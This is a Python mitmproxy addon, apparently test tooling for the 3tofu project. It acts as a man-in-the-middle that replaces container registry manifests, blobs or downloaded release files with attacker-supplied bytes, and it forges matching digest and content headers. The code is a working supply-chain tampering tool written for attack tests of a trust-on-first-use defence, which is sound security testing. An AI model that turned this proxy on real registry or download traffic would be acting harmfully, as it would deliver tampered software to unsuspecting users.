"""The attacker on one route: a mitmproxy addon that rewrites what a registry answers.

Used by 3tofu's attack tests (Tests/IntegrationTests/AttackTests.swift) and by examples/demo.sh.
It plays the targeted man-in-the-middle of the threat model -- a hostile proxy, or, with
mitmproxy's own CA trusted by the victim, a rogue CA -- and is competent: a swapped manifest
comes with a Docker-Content-Digest and Content-Type that match the bytes it serves.

    mitmdump -s examples/attacker.py --set tofu_mode=swap-manifest \
        --set tofu_replacement=evil-manifest.json --set tofu_log=rewrites.log

Options (each may also be given as an environment variable of the same name in upper case,
e.g. TOFU_MODE; a --set value wins):

  tofu_mode             swap-manifest           GET/HEAD /v2/<repo>/manifests/<tag> (a tag, not a
                                                digest) is answered with the replacement manifest.
                        swap-platform-manifest  /v2/<repo>/manifests/<tofu_target_digest> is answered
                                                with the replacement (the client asked for that digest,
                                                so it sees a digest mismatch).
                        swap-blob               /v2/<repo>/blobs/<tofu_target_digest> is answered with
                                                the replacement bytes.
                        swap-url                any plain URL whose path is tofu_target_path (a release
                                                file, a checksum file, a formula API document) is
                                                answered with the replacement bytes.
                        (empty: pass everything through untouched)
  tofu_replacement      file holding the replacement bytes (a manifest, an index, or a blob).
  tofu_replacement_tag  manifest modes only, instead of tofu_replacement: ask the registry for this
                        tag instead (the registry then answers with its own, consistent headers).
  tofu_target_tag       swap-manifest only: rewrite only this tag (empty: every tag).
  tofu_target_digest    "sha256:..." for swap-platform-manifest and swap-blob.
  tofu_target_path      swap-url only: the URL path to answer falsely for, e.g. /files/tool.tar.gz.
  tofu_registry         only touch requests to this host:port (empty: any host).
  tofu_log              append one line per rewrite to this file.
  tofu_requests         append one line per HTTP request the proxy saw (method, host:port, path) to this file.

Only successful (200) answers are rewritten, so the registry's authentication runs as usual.
"""

import hashlib
import json
import os
import re
import threading
import time

from mitmproxy import ctx, exceptions

MODES = ("", "swap-manifest", "swap-platform-manifest", "swap-blob", "swap-url")
OPTION_NAMES = (
    "tofu_mode",
    "tofu_replacement",
    "tofu_replacement_tag",
    "tofu_target_tag",
    "tofu_target_digest",
    "tofu_target_path",
    "tofu_registry",
    "tofu_log",
    "tofu_requests",
)
MANIFEST_PATH = re.compile(r"^/v2/(?P<repo>.+)/manifests/(?P<ref>[^/]+)$")
BLOB_PATH = re.compile(r"^/v2/(?P<repo>.+)/blobs/(?P<digest>[^/]+)$")


class Attacker:
    def __init__(self):
        self.lock = threading.Lock()

    def load(self, loader):
        loader.add_option("tofu_mode", str, "", "swap-manifest | swap-platform-manifest | swap-blob (empty: pass through)")
        loader.add_option("tofu_replacement", str, "", "file holding the replacement bytes")
        loader.add_option("tofu_replacement_tag", str, "", "manifest modes: fetch this tag from the registry instead")
        loader.add_option("tofu_target_tag", str, "", "swap-manifest: only this tag (empty: every tag)")
        loader.add_option("tofu_target_digest", str, "", "swap-platform-manifest, swap-blob: the digest to answer falsely for")
        loader.add_option("tofu_target_path", str, "", "swap-url: the URL path to answer falsely for")
        loader.add_option("tofu_registry", str, "", "only requests to this host:port (empty: any)")
        loader.add_option("tofu_log", str, "", "append one line per rewrite to this file")
        loader.add_option("tofu_requests", str, "", "append one line per HTTP request seen to this file")

    def configure(self, updated):
        mode = self.option("tofu_mode")
        if mode not in MODES:
            raise exceptions.OptionsError(f"tofu_mode must be one of {', '.join(m for m in MODES if m)}; got {mode!r}")
        if mode in ("swap-platform-manifest", "swap-blob") and not self.option("tofu_target_digest"):
            raise exceptions.OptionsError(f"tofu_mode={mode} needs tofu_target_digest=sha256:...")
        if mode and not self.option("tofu_replacement") and not self.option("tofu_replacement_tag"):
            raise exceptions.OptionsError(f"tofu_mode={mode} needs tofu_replacement=FILE or tofu_replacement_tag=TAG")
        if mode in ("swap-blob", "swap-url") and not self.option("tofu_replacement"):
            raise exceptions.OptionsError(f"tofu_mode={mode} needs tofu_replacement=FILE (tofu_replacement_tag is for manifests)")
        if mode == "swap-url" and not self.option("tofu_target_path"):
            raise exceptions.OptionsError("tofu_mode=swap-url needs tofu_target_path=/PATH")
        replacement = self.option("tofu_replacement")
        if replacement and not os.path.isfile(replacement):
            raise exceptions.OptionsError(f"tofu_replacement={replacement} is not a readable file")

    @staticmethod
    def option(name):
        value = getattr(ctx.options, name, "") or ""
        return value or os.environ.get(name.upper(), "")

    # Which requests are targets.

    def target(self, flow):
        """The kind of rewrite this request gets ("manifest" or "blob"), or None."""
        mode = self.option("tofu_mode")
        if not mode or flow.request.method not in ("GET", "HEAD"):
            return None
        registry = self.option("tofu_registry")
        if registry and f"{flow.request.host}:{flow.request.port}" != registry:
            return None
        path = flow.request.path.split("?", 1)[0]
        if mode == "swap-manifest":
            match = MANIFEST_PATH.match(path)
            if not match or ":" in match["ref"]:
                return None
            wanted = self.option("tofu_target_tag")
            if wanted and match["ref"] != wanted:
                return None
            if match["ref"] == self.option("tofu_replacement_tag"):
                return None
            return "manifest"
        if mode == "swap-platform-manifest":
            match = MANIFEST_PATH.match(path)
            return "manifest" if match and match["ref"] == self.option("tofu_target_digest") else None
        if mode == "swap-blob":
            match = BLOB_PATH.match(path)
            return "blob" if match and match["digest"] == self.option("tofu_target_digest") else None
        if mode == "swap-url":
            return "url" if path == self.option("tofu_target_path") else None
        return None

    # Hooks.

    def request(self, flow):
        seen = self.option("tofu_requests")
        if seen:
            with self.lock, open(seen, "a", encoding="utf-8") as log:
                log.write(f"{flow.request.method} {flow.request.host}:{flow.request.port}{flow.request.path.split('?', 1)[0]}\n")
        kind = self.target(flow)
        tag = self.option("tofu_replacement_tag")
        if kind != "manifest" or self.option("tofu_replacement") or not tag:
            return
        original = flow.request.path
        path, _, query = original.partition("?")
        flow.request.path = path.rsplit("/", 1)[0] + "/" + tag + ("?" + query if query else "")
        flow.metadata["tofu_original_path"] = original

    def response(self, flow):
        if flow.response is None or flow.response.status_code != 200:
            return
        mode = self.option("tofu_mode")
        if "tofu_original_path" in flow.metadata:
            # The registry answered for the replacement tag, with its own consistent headers.
            served = flow.response.headers.get("Docker-Content-Digest", "")
            self.record(f"{mode} {flow.request.method} {flow.request.host}:{flow.request.port}"
                        f"{flow.metadata['tofu_original_path']} served {served} (tag {self.option('tofu_replacement_tag')})")
            return
        kind = self.target(flow)
        if kind is None:
            return
        before = flow.response.headers.get("Docker-Content-Digest", "")
        replacement_file = self.option("tofu_replacement")
        with open(replacement_file, "rb") as handle:
            body = handle.read()
        digest = "sha256:" + hashlib.sha256(body).hexdigest()
        headers = flow.response.headers
        for name in ("Content-Encoding", "Transfer-Encoding", "Content-Range"):
            headers.pop(name, None)
        if kind == "manifest":
            media_type = manifest_media_type(body)
            if media_type:
                headers["Content-Type"] = media_type
        if kind != "url":
            headers["Docker-Content-Digest"] = digest
        headers["Etag"] = f'"{digest}"'
        if flow.request.method == "HEAD":
            flow.response.content = b""
            headers["Content-Length"] = str(len(body))
        else:
            flow.response.content = body
            headers["Content-Length"] = str(len(body))
        self.record(f"{mode} {flow.request.method} {flow.request.host}:{flow.request.port}{flow.request.path}"
                    f" served {digest} instead of {before or '(no digest header)'}")

    def record(self, line):
        ctx.log.warn(f"attacker: {line}")
        path = self.option("tofu_log")
        if not path:
            return
        stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
        with self.lock, open(path, "a", encoding="utf-8") as log:
            log.write(f"{stamp} {line}\n")


def manifest_media_type(body):
    """The mediaType field of a JSON manifest or index, or None."""
    try:
        document = json.loads(body)
    except ValueError:
        return None
    media_type = document.get("mediaType") if isinstance(document, dict) else None
    return media_type if isinstance(media_type, str) else None


addons = [Attacker()]
